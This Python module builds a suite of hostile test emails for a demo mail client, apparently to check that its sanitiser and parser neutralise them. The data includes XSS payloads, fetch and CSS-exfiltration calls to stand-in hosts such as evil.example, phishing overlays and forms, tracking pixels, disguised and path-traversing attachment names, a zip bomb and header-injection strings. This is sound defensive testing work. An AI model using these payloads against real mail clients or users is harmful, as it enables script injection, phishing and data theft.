"""Messages that try something. Each one tells in its subject what a reader must not see happen."""

import base64

from demo.mailbox import documents, mime, pictures
from demo.mailbox.people import Person

_HEAD = ("Return-Path: <{name}@hostile.example>\nDate: {date}\nFrom: Hostile Tester <{name}@hostile.example>\nTo: mara@larkhaven.example\n"
         "Subject: {subject}\nMessage-ID: <{name}@hostile.example>\n")
_DEEP_LEVELS = 9
_NESTED_TAGS = 3000


def add(post):
    _active_content(post)
    _style_tricks(post)
    _links(post)
    _images(post)
    _files(post)
    _broken_mime(post)
    _odd_headers(post)


def _page(post, name, subject, body):
    post.add("hostile", Person("Hostile Tester", f"{name}@hostile.example"), subject, mime.html(body), 12 + len(post.messages) % 97 * 2.9)


def _raw(post, name, subject, rest):
    """A message whose head is sound up to the Message-ID; the rest is given."""
    head = _HEAD.format(name=name, subject=subject, date="{date}").encode()
    post.add_raw("hostile", subject, head + (rest if isinstance(rest, bytes) else rest.encode()), 13 + len(post.messages) % 89 * 3.1)


# HTML

def _active_content(post):
    _page(post, "script", "Test: scripts do not run",
          '<p>Above and below this line nothing happens.</p><script>document.body.innerHTML="script ran";fetch("https://collect.example/s")</script>'
          '<SCRIPT SRC=https://evil.example/x.js></SCRIPT><scr<script>ipt>alert(1)</script><svg><script>alert(2)</script></svg>'
          '<p>The end of the letter.</p>')
    _page(post, "handlers", "Test: event handlers are gone",
          '<div onclick="alert(1)" onmouseover=alert(2)>Move over me.</div><p onload=alert(3) onpointerenter="location=\'https://evil.example\'">And over me.</p>'
          '<img src=x onerror=alert(4)><body onload=alert(5)><a href="https://example.org/" onclick="steal()">A link</a>'
          '<details open ontoggle=alert(6)><summary>More</summary>A fold.</details><marquee onstart=alert(7)>Runs no more.</marquee>')
    _page(post, "frames", "Test: no frames, objects or embedded things",
          '<p>Before.</p><iframe src="https://evil.example/frame" srcdoc="<script>parent.x()</script>"></iframe><object data="https://evil.example/o.swf">fallback</object>'
          '<p>Between.</p><video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.ogg"></audio><frameset><frame src="https://evil.example"></frameset>'
          '<applet code="X.class"></applet><portal src="https://evil.example"></portal><p>After.</p>')
    _page(post, "forms", "Test: no form can be sent",
          '<p>Please sign in:</p><form action="https://collect.example/login" method="post"><input name="user"><input type="password" name="pass">'
          '<select><option>1</option></select><textarea name="t">typed</textarea><button formaction="javascript:alert(1)">Sign in</button></form>'
          '<input type="image" src="https://collect.example/click"><isindex prompt="x"><p>Text behind the form.</p>')
    _page(post, "refresh", "Test: the page does not lead away",
          '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="refresh" content="1;url=data:text/html,<script>alert(1)</script>">'
          '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><link rel="dns-prefetch" href="//leak.evil.example">'
          '<meta http-equiv="Content-Security-Policy" content="img-src *"></head><body><p>Still here.</p><a href="relative/page">A relative link</a></body></html>')
    _page(post, "svg", "Test: SVG and MathML carry nothing",
          '<p>One.</p><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><a xlink:href="javascript:alert(2)"><text y="20">click</text></a>'
          '<foreignObject><iframe src="https://evil.example"></iframe></foreignObject><style>@import url(https://evil.example/s.css);</style></svg>'
          '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(3)&gt;"></table></mtext></math><p>Two.</p>'
          '<noscript><p title="</noscript><img src=x onerror=alert(4)>"></noscript><template><script>alert(5)</script></template><p>Three.</p>')


def _style_tricks(post):
    _page(post, "css", "Test: styles load nothing",
          '<html><head><style>@import url("https://evil.example/i.css"); @import "https://evil.example/j.css";\n'
          'body { background: url(https://track.hostile.example/open.gif?u=mara) } @font-face { font-family: x; src: url(https://evil.example/f.woff) }\n'
          'p:first-letter { background: \\75\\72\\6c(https://evil.example/escaped) } li { list-style-image: u/**/rl(https://evil.example/comment) }\n'
          'input[value^="a"] { background: url(https://evil.example/leak?a) } .x { background-image: image-set("https://evil.example/is" 1x) }\n'
          '</style></head><body><p style="background:url(javascript:alert(1));width:expression(alert(2));behavior:url(x.htc);-moz-binding:url(x.xml#y)">Plain text, no background.</p>'
          '<ul><li>An item.</li></ul><div style="background-image:url(\'https://evil.example/&#41;x\')">Another.</div></body></html>')
    _page(post, "overlay", "Test: nothing lies over the window",
          '<p>The letter itself.</p><div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">'
          '<h2>Your session has expired</h2><a href="https://evil.example/login">Sign in again</a></div>'
          '<div style="POSITION : ab\\73olute;top:-200px;left:0">I sit above.</div><div style="position:sticky;bottom:0">I stick.</div>'
          '<div style="margin-top:-4000px">I was pulled up.</div><div style="transform:translateY(-300px) scale(20)">I was blown up.</div>')
    _page(post, "hidden", "Test: hidden words", '<p>Visible.</p><div style="display:none">Hidden words for the spam filter: invoice, meeting, library.</div>'
          '<font color="#ffffff" size="1">White on white.</font><span style="font-size:0">zero</span><p style="opacity:0.01">almost nothing</p>')
    _page(post, "nesting", "Test: a very deep page", "".join(f"<div><b><table><tr><td>{level if level % 500 == 0 else ''}" for level in range(_NESTED_TAGS)) + "<p>The bottom.</p>")
    _page(post, "repeat", "Test: words hidden in words",
          "<p>" + '<a href="' + "java" * 200 + "script:" * 200 + 'alert(1)">folded</a></p><p style="' + "java" * 300 + "javascript:" + "script:" * 300 + '">One line of text.</p>'
          '<a href="java&#9;script&colon;alert(1)">tab</a> <a href="&#x6A;avascript:alert(1)">entity</a> <a href="\u200bjavascript:alert(1)">zero width</a> <a href=" vbscript:x">vb</a>')
    _page(post, "unclosed", "Test: a page that never ends", '<p>Begin.</p><b><i>bold and slanted</b> only slanted?</i><table><tr><td>cell<p>para<a href="https://example.org/one">one<a href="https://example.org/two">two'
          '<!-- a comment > with <script>alert(1)</script> --><p>Middle.</p><img alt="quote that never closes src="https://evil.example/q.png"><p>Perhaps visible.</p><a title="')


# Links

def _links(post):
    _page(post, "links", "Test: links that lie",
          '<ul><li><a href="https://evil.example/">https://www.larkhaven-savings.example/</a> (another host)</li>'
          '<li><a href="https://xn--larkhven-sza.example/">larkhäven.example</a> (look-alike letters)</li><li><a href="http://203.0.113.9/login">Sign in</a> (an address of numbers)</li>'
          '<li><a href="https://council.example@evil.example/">The council</a> (a name before the host)</li><li><a href="http://example.org/">plain http</a></li>'
          '<li><a href="https://раураl.example/">payments</a> (Cyrillic)</li><li><a href="https://[2001:db8::1]/">six</a></li>'
          '<li><a href="https://example.org\\@evil.example/">backslash</a></li><li><a href="https:evil.example">no slashes</a></li>'
          '<li><a href="https://example.org/?utm_source=mail&amp;id=7&amp;fbclid=abc&amp;mc_eid=1#utm_campaign=2">tracked</a></li></ul>')
    _page(post, "schemes", "Test: only web and mail links",
          "".join(f'<p><a href="{target}">{label}</a></p>' for label, target in (
              ("script", "javascript:alert(1)"), ("data", "data:text/html,<script>alert(1)</script>"), ("file", "file:///etc/passwd"), ("ftp", "ftp://evil.example/x"),
              ("view source", "view-source:https://example.org"), ("own scheme", "larkhaven-link:0"), ("intent", "intent://x#Intent;end"), ("telephone", "tel:+15550100"),
              ("long", "https://example.org/" + "a" * 5000), ("mail", "mailto:theo@larkhaven.example?subject=hi&amp;bcc=spy@evil.example&amp;attach=/etc/passwd"),
              ("web", "https://example.org/fine"))))
    _page(post, "dataurl", "Test: pages inside links and pictures",
          f'<p>A picture that is none: <img src="data:text/html;base64,{base64.b64encode(b"<script>alert(1)</script>").decode()}"></p>'
          '<p>A drawing with a script: <img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>"></p>'
          f'<p>A real one: <img alt="sail" src="data:image/png;base64,{base64.b64encode(pictures.logo("#c42b3c", "sail")).decode()}"></p>')


# Pictures

def _images(post):
    _page(post, "beacons", "Test: counters and pixels stay silent",
          '<p>Did you get my letter?</p><img src="https://track.hostile.example/open/4417.gif" width="1" height="1"><img src="https://hostile.example/e/o/77" width=0>'
          '<img src="https://hostile.example/logo.png" style="display:none"><img src="https://click.hostile.example/x.png" width="300" height="100"><img src="//hostile.example/protocol.gif">'
          '<img src="https://hostile.example/spacer.png" style="width: 1PX; HEIGHT: 1px"><img src="http://hostile.example/plain.png" width="200" height="80" alt="plain http">'
          '<img src="https://images.example/harmless/photo.jpg" width="320" height="200" alt="a photo"><table background="https://hostile.example/bg.png"><tr><td>Cell.</td></tr></table>'
          '<img srcset="https://hostile.example/2x.png 2x" alt="only a srcset"><picture><source srcset="https://hostile.example/s.webp"><img src="https://images.example/fallback.jpg" alt="fallback"></picture>'
          '<p><input type=image src=https://hostile.example/in.gif><bgsound src=https://hostile.example/b.wav></p>')
    sneaky = post.content_id("sneaky")
    post.add("hostile", Person("Hostile Tester", "cid@hostile.example"), "Test: an inline picture that is a page", post.multipart(
        "related", mime.html(f'<p>One:</p><img src="cid:{sneaky}"><p>Two:</p><img src="cid:nobody@nowhere.example"><iframe src="cid:{sneaky}"></iframe>'),
        mime.inline_image("picture.png", b"<html><script>alert(1)</script></html>", sneaky, "text/html"),
        mime.inline_image("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "drawing@hostile.example", "image/svg+xml")), 105)


# Files

def _files(post):
    override = "\u202e"
    post.add("hostile", Person("Hostile Tester", "bidi@hostile.example"), "Test: names of files that read backwards", post.multipart(
        "mixed", mime.text("Please open the attached photographs and invoices.\n"),
        mime.attachment(f"holiday{override}gnp.exe", b"MZ not really", "application/x-msdownload", "rfc2231"),
        mime.attachment("../../.ssh/authorized_keys", b"ssh-rsa nothing\n", "text/plain"),
        mime.attachment("C:\\Windows\\system32\\evil.dll", b"nothing", "application/octet-stream"),
        mime.attachment("invoice.pdf" + " " * 120 + ".desktop", b"[Desktop Entry]\nExec=true\n", "application/x-desktop", "rfc2231"),
        mime.attachment("line\nbreak\x00nul\x07bell.txt", b"x", "text/plain", "rfc2231"),
        mime.attachment("nul.txt\u2028new", b"x", "text/plain", "rfc2231"),
        mime.attachment("a" * 400 + ".pdf", documents.pdf("Long name", ("x",)), "application/pdf", "continued"),
        mime.attachment(".hidden", b"x", "text/plain"), mime.attachment("", b"no name at all", "application/octet-stream")), 118)
    post.add("hostile", Person("Hostile Tester", "html-file@hostile.example"), "Test: an attached page", post.multipart(
        "mixed", mime.text("See the attached page.\n"),
        mime.attachment("statement.html", b"<html><body><script>location='https://evil.example'</script>Statement</body></html>", "text/html"),
        mime.attachment("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
        mime.attachment("photo.png", b"\x89PNG\r\n\x1a\nbroken", "image/png"), mime.attachment("bomb.zip", documents.archive((("zeros.bin", bytes(4_000_000)),)), "application/zip")), 135)


# MIME

def _broken_mime(post):
    _raw(post, "noboundary", "Test: multipart without a boundary", "MIME-Version: 1.0\nContent-Type: multipart/mixed\n\n--\nContent-Type: text/plain\n\nIs this readable?\n--\n")
    _raw(post, "wrongboundary", "Test: a boundary that never comes", 'MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary="expected"\n\n--other\nContent-Type: text/plain\n\nThe text that is there.\n--other--\n')
    _raw(post, "openend", "Test: a multipart that stops in the middle",
         'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/plain; charset=utf-8\n\nThe first part is whole.\n--x\nContent-Type: image/png; name="cut.png"\n'
         "Content-Transfer-Encoding: base64\n\n" + base64.b64encode(pictures.dot()).decode()[:41])
    _raw(post, "badencoding", "Test: encodings that are none",
         'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/plain; charset=x-unknown-9\nContent-Transfer-Encoding: quoted-printable\n\nBroken =ZZ =E9 =\n soft = \nend=\n'
         "--x\nContent-Type: text/plain; charset=\"utf-8\nContent-Transfer-Encoding: base64\n\nTm90ISBxdWl0ZSEgYmFzZTY0*!*\n--x\nContent-Type: text/plain\nContent-Transfer-Encoding: uuencode\n\nbegin 644 x\n#86)C\n`\nend\n--x--\n")
    inner = mime.text("Nine levels down, and still a letter.\n")
    for level in range(_DEEP_LEVELS):
        inner = mime.multipart("mixed" if level % 2 else "alternative", [mime.text(f"Level {_DEEP_LEVELS - level}.\n"), inner], f"level-{_DEEP_LEVELS - level}")
    post.add("hostile", Person("Hostile Tester", "deep@hostile.example"), "Test: nine levels of multipart", inner, 142)
    matryoshka = b"Subject: the innermost\nContent-Type: text/plain\n\nHello from inside.\n"
    for level in range(60):
        matryoshka = b"Subject: shell %d\nContent-Type: message/rfc822\n\n" % (60 - level) + matryoshka
    _raw(post, "matryoshka", "Test: a letter in a letter in a letter", b"MIME-Version: 1.0\nContent-Type: message/rfc822\n\n" + matryoshka)
    parts = b"".join(b"--x\nContent-Type: text/plain\n\npart %d\n" % number for number in range(1500))
    _raw(post, "manyparts", "Test: fifteen hundred parts", b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n' + parts + b"--x--\n")
    _raw(post, "sameboundary", "Test: inner and outer boundary are the same",
         'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: multipart/alternative; boundary="b"\n\n--b\nContent-Type: text/plain\n\nWho am I?\n--b--\nafter\n--b--\n')
    _raw(post, "binary", "Test: zeros and control characters", b"MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nA zero \x00, a bell \x07, "
         b"an escape \x1b[31mred\x1b[0m, half a letter \xc3, an overlong slash \xc0\xaf, a surrogate \xed\xa0\x80.\r\nCRLF here\nLF here\rCR here\n")


# Headers

def _odd_headers(post):
    _raw(post, "longsubject", "Test: " + "a very long subject that goes on " * 60, "Content-Type: text/plain\n\nThe subject was longer than this.\n")
    post.add_raw("hostile", "Test: doubled and missing headers", b"Date: {date}\nDate: Thu, 01 Jan 1970 00:00:00 +0000\nFrom: First <first@hostile.example>\nFrom: Second <second@hostile.example>\n"
                 b"Subject: Test: doubled and missing headers\nSubject: the second subject\nno colon in this line\n: no name\nX-Empty:\nContent-Type: text/plain\nContent-Type: text/html\n\n<b>Which one counts?</b>\n", 155)
    post.add_raw("hostile", "", b"\nA message that begins with an empty line, and therefore has no header at all.\n", 158)
    _raw(post, "words", "=?utf-8?B?VGVzdDogYnJva2VuIGVuY29kZWQgd29yZHMg?= =?utf-8?Q?=ZZ_?= =?x-none?B?////?= =?utf-8?B?4oCu?=gnp.exe =?utf-8?Q?=0D=0ABcc:_spy=40evil.example?=",
         "Content-Type: text/plain\n\nA line break in a subject must not become a header.\n")
    post.add_raw("hostile", "Test: who is it from?",
                 'Date: {date}\nFrom: "service@larkhaven-savings.example" <x@hostile.example>\nSender: "<mara@larkhaven.example>" <y@hostile.example>\n'
                 'Reply-To: "Mara Jansen" <mara@larkhaven.example.evil.example>, =?utf-8?B?4oCu?= <rtl@evil.example>\nTo: undisclosed-recipients:;\n'
                 "Cc: (comment (nested)) a@example.org, Group: b@example.org, c@example.org;, \"unclosed <d@example.org>\n"
                 "Subject: Test: who is it from?\nContent-Type: text/plain\n\nThe name of the sender is an address, and not his.\n".encode(), 161)
    post.add_raw("hostile", "Test: dates from nowhere",
                 b"Date: Mon, 99 Foo 20225 25:61:99 +9999\nFrom: Clock <clock@hostile.example>\nTo: mara@larkhaven.example\nSubject: Test: dates from nowhere\nContent-Type: text/plain\n\nWhen was this?\n", 164)
    post.add_raw("hostile", "Test: a thousand receivers",
                 b"Date: {date}\nFrom: Crowd <crowd@hostile.example>\nTo: " + b",\n ".join(b"reader%d@example.org" % number for number in range(1000))
                 + b"\nSubject: Test: a thousand receivers\nContent-Type: text/plain\n\nDear all,\n\nplease answer to all.\n", 167)
    _raw(post, "references", "Test: a thread that bites its tail", "In-Reply-To: <references@hostile.example>\nReferences: " + " ".join(["<references@hostile.example>"] * 300) +
         "\nDisposition-Notification-To: spy@evil.example\nX-Confirm-Reading-To: spy@evil.example\nContent-Type: text/plain\n\nPlease confirm that you have read this.\n")
